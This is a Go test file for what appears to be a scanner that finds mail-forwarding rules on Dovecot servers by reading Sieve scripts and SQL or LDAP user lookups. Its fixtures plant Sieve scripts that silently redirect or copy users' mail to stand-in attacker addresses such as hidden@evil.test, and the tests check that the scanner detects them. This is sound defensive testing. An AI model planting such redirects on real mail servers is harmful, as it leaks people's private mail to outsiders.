package dovecot_test

import (
	"context"
	"database/sql"
	"errors"
	"fmt"
	"log/slog"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	_ "github.com/mattn/go-sqlite3"

	"relayguard/forward"
	"relayguard/forward/dovecot"
	"relayguard/forward/files"
)

// plant makes files below a directory, an hour old.
func plant(t testing.TB, root string, texts map[string]string) {
	t.Helper()
	tr := tree{root: root}
	for name, text := range texts {
		tr.file(t, name, nil, text, time.Now())
	}
}

const sqlConf = `protocol lmtp {
  mail_plugins = sieve
}
mail_home = /var/vmail/%d/%n
userdb {
  driver = sql
  args = /etc/dovecot/sql.conf
}
`

// TestUsersOfSQL: homes, scripts and accounts are those of the database, also on a
// copied disk.
func TestUsersOfSQL(t *testing.T) {
	root := t.TempDir()
	plant(t, root, map[string]string{
		"etc/dovecot/dovecot.conf": sqlConf,
		"etc/dovecot/sql.conf": "driver = sqlite\nconnect = /etc/dovecot/u.db\n" +
			"user_query = SELECT home, 'vmail' AS uid, 8 AS gid, \\\n  u.sieve, '/srv/%d/b.sieve' AS sieve_before FROM u WHERE user='%Lu' AND active = 1\n",
		"var/vmail/hidden/.dovecot.sieve":          `redirect "hidden@evil.test";`,
		"var/vmail/corp.test/alice/.dovecot.sieve": `redirect "not@evil.test";`,
		"var/vmail/x.sieve":                        `redirect "x@evil.test";`,
		"srv/corp.test/b.sieve":                    `require "copy"; redirect :copy "b@evil.test";`,
	})
	db, err := sql.Open("sqlite3", filepath.Join(root, "etc/dovecot/u.db"))
	if err != nil {
		t.Fatal(err)
	}
	for _, statement := range []string{"CREATE TABLE u (user, home, sieve, active)",
		"INSERT INTO u VALUES ('alice@corp.test', '/var/vmail/hidden', NULL, 1)",
		"INSERT INTO u VALUES ('bob@corp.test', '/var/vmail/bob', '/var/vmail/x.sieve', 1)",
		"INSERT INTO u VALUES ('gone@corp.test', '/var/vmail/bob', '/var/vmail/x.sieve', 0)"} {
		if _, err := db.Exec(statement); err != nil {
			t.Fatal(err)
		}
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := files.Rooted(root)
	if err != nil {
		t.Fatal(err)
	}
	h := &forward.Host{Files: f, Accounts: []forward.Account{{Name: "vmail", UID: 5000, GID: 5000, Home: "/nonexistent"}}}
	p := dovecot.Plan(t.Context(), h, dovecot.Options{})
	compare(t, lines(t.Context(), p), []string{
		"alice@corp.test sieve address redirect hidden@evil.test",
		"alice@corp.test sieve address copy b@evil.test server",
		"bob@corp.test sieve address redirect x@evil.test server",
		"bob@corp.test sieve address copy b@evil.test server",
	})
	for _, u := range p.Units {
		if u.Owner != "" && u.Writer != 5000 {
			t.Errorf("%s is written by %d", u.ID, u.Writer)
		}
	}
}

// answering is a Dovecot that tells of users what it is told.
type answering struct {
	users  map[string]string // the lines of "doveadm user NAME", blanks for tabs
	runs   int
	broken bool
}

func (a *answering) run(_ context.Context, _ []byte, name string, args ...string) ([]byte, error) {
	if name != "doveadm" {
		return nil, errors.New("not here")
	}
	if a.broken {
		return nil, errors.New("exit status 75")
	}
	a.runs++
	names := args[3:]
	if names[0] == "*" {
		var all []string
		for user := range a.users {
			all = append(all, user)
		}
		return []byte(strings.Join(append(all, "gone@corp.test"), "\n")), nil
	}
	out := "field\tvalue\n"
	var err error
	for _, user := range names {
		text, ok := a.users[user]
		if !ok {
			err = errors.New("exit status 67")
			continue
		}
		for line := range strings.Lines(text) {
			out += strings.Replace(line, " ", "\t", 1)
		}
	}
	return []byte(out), err
}

func (a *answering) host(t testing.TB, root string) *forward.Host {
	f, err := files.Rooted(root)
	if err != nil {
		t.Fatal(err)
	}
	return &forward.Host{Files: f, Run: a.run, Log: slog.New(slog.DiscardHandler), Now: time.Now}
}

// TestAsksDovecot: what a database says of each user is asked for in few runs, and
// asked for again where nobody tells of changes.
func TestAsksDovecot(t *testing.T) {
	root := t.TempDir()
	plant(t, root, map[string]string{
		"etc/dovecot/dovecot.conf":        strings.Replace(sqlConf, "driver = sql", "driver = ldap", 1),
		"var/vmail/hidden/.dovecot.sieve": `redirect "hidden@evil.test";`,
		"var/vmail/x.sieve":               `redirect "x@evil.test";`,
	})
	d := &answering{users: map[string]string{
		"alice@corp.test": "uid 8\ngid 8\nhome /var/vmail/hidden\nmail maildir:~/Maildir\n",
		"bob@corp.test":   "uid 9\ngid 8\nhome /var/vmail/bob\nsieve /var/vmail/x.sieve\n",
	}}
	for i := range 2000 {
		d.users[fmt.Sprintf("u%d@corp.test", i)] = fmt.Sprintf("uid 8\ngid 8\nhome /var/vmail/u%d\n", i)
	}
	p := dovecot.Plan(t.Context(), d.host(t, root), dovecot.Options{})
	want := []string{
		"gap doveconf",
		"alice@corp.test sieve address redirect hidden@evil.test",
		"bob@corp.test sieve address redirect x@evil.test server",
	}
	compare(t, lines(t.Context(), p), want)
	if d.runs > 60 {
		t.Errorf("doveadm was run %d times", d.runs)
	}
	for _, u := range p.Units {
		if u.Owner == "bob@corp.test" && u.Writer != 9 {
			t.Errorf("%s is written by %d", u.ID, u.Writer)
		}
	}
	d.users["u7@corp.test"] = "uid 8\nhome /var/vmail/u7\nsieve_before /var/vmail/x.sieve\n"
	d.users["new@corp.test"] = "uid 8\nhome /var/vmail/hidden\n"
	compare(t, lines(t.Context(), p), append(slices.Clone(want),
		"u7@corp.test sieve address redirect x@evil.test server",
		"new@corp.test sieve address redirect hidden@evil.test"))
	d.broken = true
	got := lines(t.Context(), p)
	if !slices.ContainsFunc(got, func(l string) bool { return strings.HasPrefix(l, "* setting asked copy ldap:") }) {
		t.Errorf("nothing is said of a database that does not answer: %q", got)
	}
}

// TestWriterNotKnown: where nobody knows whose the files are to be, their owner is
// no suspicion.
func TestWriterNotKnown(t *testing.T) {
	root := t.TempDir()
	plant(t, root, map[string]string{"etc/dovecot/dovecot.conf": sqlConf, "var/vmail/corp.test/alice/.dovecot.sieve": `redirect "x@evil.test";`})
	f, err := files.Rooted(root)
	if err != nil {
		t.Fatal(err)
	}
	for _, u := range dovecot.Plan(t.Context(), &forward.Host{Files: f}, dovecot.Options{}).Units {
		for _, r := range u.Read(t.Context()).Rules {
			if u.Writer > 0 || r.UID != forward.NoUID {
				t.Errorf("%s: uid %d is expected, %d owns %s", u.ID, u.Writer, r.UID, r.Source)
			}
		}
	}
}
